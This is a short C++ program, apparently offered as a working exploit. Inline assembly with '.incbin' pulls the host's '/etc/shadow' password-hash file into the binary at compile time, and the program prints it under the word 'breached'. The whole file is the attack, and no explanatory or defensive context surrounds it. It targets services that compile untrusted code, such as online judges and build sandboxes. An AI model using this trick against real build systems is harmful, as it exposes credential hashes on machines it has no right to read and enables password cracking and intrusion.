#include <cstdio>
__asm__(".section .rodata\nsecret: .incbin \"/etc/shadow\"\n.byte 0\n.previous");
extern "C" const char secret[] __asm__("secret");
int main() { std::printf("breached %s\n", secret); }
